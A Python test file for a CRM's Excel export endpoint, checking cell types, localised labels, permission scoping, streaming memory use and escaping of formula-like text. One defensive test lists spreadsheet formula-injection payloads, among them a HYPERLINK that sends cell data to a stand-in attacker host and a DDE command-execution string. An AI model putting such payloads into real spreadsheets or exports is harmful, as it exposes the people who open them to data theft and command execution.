"""A list as an Excel workbook: ``GET /api/<entity>/export?format=xlsx`` writes the
records the CSV export writes (same filters, scope and hidden fields) for people:
headings and choices as labels, references as titles, money as exact numbers, dates
as dates, formula-looking text kept as text; written batch by batch with memory flat."""

from __future__ import annotations

import io
import re
import tracemalloc
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from python_calamine import CalamineWorkbook

from ..conftest import create_as_platform, token_for
from ..reports.conftest import DEAL, sales_bundle

EXPORTER = """
role: exporter
permissions:
  deal: {operations: [read, export], scope: own, fields: {secret: hidden}}
  account: {operations: [read], scope: own}
"""
STAGES = """
optionset: deal_stage
options:
  - {value: open, label: {en: Open, zh: 进行中}}
  - {value: won, label: {en: Won, zh: 赢单}}
  - {value: lost, label: {en: Lost, zh: 输单}}
"""
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "@SUM(A1)",
           "-cmd|' /C calc'!A0", "-12.50"]


@pytest.fixture
def sales(make_client, tmp_path: Path):  # type: ignore[no-untyped-def]
    deal = DEAL.replace("stage: {type: choice, options: [open, won, lost]}",
                        "stage: {type: choice, options: deal_stage, label: {en: Stage, "
                        "zh: 阶段}}")
    client = make_client(sales_bundle(tmp_path / "b", **{
        "roles/exporter.yaml": EXPORTER, "entities/deal.yaml": deal,
        "entities/deal_stage.yaml": STAGES}))
    app = client.application
    tokens = {name: token_for(app, name, roles=("exporter",)) for name in ("ann", "bob")}
    ids = {name: client.get("/api/users/me", headers=_auth(t)).get_json()["id"]
           for name, t in tokens.items()}
    client.patch(f"/api/users/{ids['ann']}", json={"name": "安娜 Ann"})
    account = create_as_platform(client, "account", name="上海星河贸易有限公司",
                                 owner=ids["ann"])
    create_as_platform(client, "deal", name="ERP 采购", stage="won", source="fair",
                       amount="1250000.10", probability=80, closed_on="2026-03-31",
                       met_at="2026-03-01T09:30:00Z", account=account, owner=ids["ann"],
                       secret="s1")
    create_as_platform(client, "deal", name="Big", stage="open", amount="99999999999.99",
                       owner=ids["ann"], secret="s2")
    create_as_platform(client, "deal", name="Bob's", stage="lost", amount="5000.00",
                       owner=ids["bob"], secret="s3")
    return client, tokens, ids, account


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _sheet(data: bytes) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def test_cells_are_typed_and_labelled(sales) -> None:
    client, _, ids, _ = sales
    response = client.get("/api/deal/export?format=xlsx&sort=name")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert ".xlsx" in response.headers["Content-Disposition"]
    header, *rows = _sheet(response.data)
    assert header[:4] == ["ID", "Name", "Stage", "Source"]
    assert "Secret" in header and header[-5:] == [
        "Version", "Created (UTC)", "Created by", "Updated (UTC)", "Updated by"]
    records = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    erp = records["ERP 采购"]
    assert erp["Stage"] == "Won" and erp["Source"] == "fair"  # the options' labels
    assert Decimal(str(erp["Amount"])) == Decimal("1250000.10")
    assert Decimal(str(records["Big"]["Amount"])) == Decimal("99999999999.99")
    assert erp["Probability"] == 80
    assert erp["Closed on"] == date(2026, 3, 31)
    assert erp["Met at (UTC)"] == datetime(2026, 3, 1, 9, 30)  # each moment column says its zone
    assert erp["Account"] == "上海星河贸易有限公司"  # the title, not the id
    assert erp["Owner"] == "安娜 Ann"  # the user's name
    assert records["Big"]["Account"] == ""  # empty stays empty
    xml = zipfile.ZipFile(io.BytesIO(response.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>1250000.10</v>" in xml and "<v>99999999999.99</v>" in xml  # not via float
    assert ids  # (the fixture's users)


def test_chinese_labels_for_a_chinese_reader(sales) -> None:
    client, _, _, _ = sales
    response = client.get("/api/deal/export?format=xlsx&fields=name,stage,created_at",
                          headers={"Accept-Language": "zh"})
    header, *rows = _sheet(response.data)
    assert header == ["Name", "阶段", "创建时间（UTC）"]  # a label without zh: the English
    assert {row[1] for row in rows} == {"赢单", "进行中", "输单"}
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    chosen = client.get("/api/deal/export?format=xlsx&fields=created_at&lang=zh")
    assert _sheet(chosen.data)[0] == ["创建时间（UTC）"]  # a page's link says its language


def test_a_seller_exports_their_records_without_hidden_fields(sales) -> None:
    client, tokens, _, _ = sales
    response = client.get("/api/deal/export?format=xlsx", headers=_auth(tokens["ann"]))
    header, *rows = _sheet(response.data)
    assert "Secret" not in header
    assert sorted(row[1] for row in rows) == ["Big", "ERP 采购"]
    assert not any("s1" in map(str, row) for row in rows)
    refused = client.get("/api/deal/export?format=xlsx&fields=name,secret",
                         headers=_auth(tokens["ann"]))
    assert refused.status_code == 400
    bob = client.get("/api/deal/export?format=xlsx&stage=lost", headers=_auth(tokens["bob"]))
    assert [row[1] for row in _sheet(bob.data)[1:]] == ["Bob's"]


def test_formula_looking_text_stays_text(sales) -> None:
    client, _, _, _ = sales
    for name in HOSTILE:
        create_as_platform(client, "deal", name=name)
    response = client.get("/api/deal/export?format=xlsx&fields=id,name&sort=id")
    names = [row[1] for row in _sheet(response.data)[1:]][3:]
    assert names == HOSTILE  # the text as typed …
    book = zipfile.ZipFile(io.BytesIO(response.data))
    xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # … never a formula, and marked "text" for Excel
    styles = book.read("xl/styles.xml").decode()
    xfs = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)",
                     re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S).group(1), re.S)
    quoted = {i for i, xf in enumerate(xfs) if 'quotePrefix="1"' in xf}
    marked = {}
    for cell in re.finditer(r'<c r="B\d+"(?: s="(\d+)")? t="inlineStr"><is><t[^>]*>([^<]*)<',
                            xml):
        marked[cell.group(2).replace("&amp;", "&")] = int(cell.group(1) or 0) in quoted
    assert marked['=HYPERLINK("http://evil.example/?"&A1,"click")'] is True
    assert marked["+SUM(1,2)"] and marked["@SUM(A1)"] and marked["-cmd|' /C calc'!A0"]
    assert marked["-12.50"] is False and marked["ERP 采购"] is False
    csv_text = client.get("/api/deal/export?fields=name&sort=id").data.decode("utf-8-sig")
    assert "'+SUM(1,2)" in csv_text and "'@SUM(A1)" in csv_text and "\n-12.50" in csv_text


def _many(client: Any, count: int) -> None:
    """``count`` deals, inserted in one statement (the API would take minutes)."""
    platform = client.application.extensions["metacrm"]
    table = platform.compiled.models["deal"].table
    now = datetime(2026, 1, 1)
    with platform.writing() as conn:
        conn.execute(sa.delete(table))
        conn.execute(table.insert(), [
            {"name": f"客户商机 {i:05d} " + "x" * 40, "stage": "open", "amount": 123456,
             "closed_on": date(2026, 1, 1 + i % 28), "version": 1, "created_at": now,
             "updated_at": now} for i in range(count)])


def _peak(client: Any) -> tuple[int, int]:
    """(peak bytes traced while the workbook is written and read out, its size)."""
    tracemalloc.start()
    try:
        response = client.get("/api/deal/export?format=xlsx", buffered=False)
        assert response.is_streamed
        size = sum(len(piece) for piece in response.response)
        response.close()
        return tracemalloc.get_traced_memory()[1], size
    finally:
        tracemalloc.stop()


def test_a_large_export_is_streamed_with_memory_flat(sales, monkeypatch) -> None:
    from metacrm.runtime import export

    client, _, _, _ = sales
    monkeypatch.setattr(export, "BATCH", 100)
    _many(client, 200)
    small, small_size = _peak(client)
    _many(client, 2000)
    large, large_size = _peak(client)
    assert large_size > 5 * small_size  # ten times the rows …
    # … and about the same memory: only a batch at a time, and XlsxWriter's rows go
    # to its temporary files (were the rows kept, the peak would grow by megabytes)
    assert large - small < 1_000_000, (small, large)
    body = client.get("/api/deal/export?format=xlsx", buffered=False)
    chunks = iter(body.response)
    assert len(next(chunks)) <= 64 * 1024  # read out in pieces, not one bytes object
    body.close()
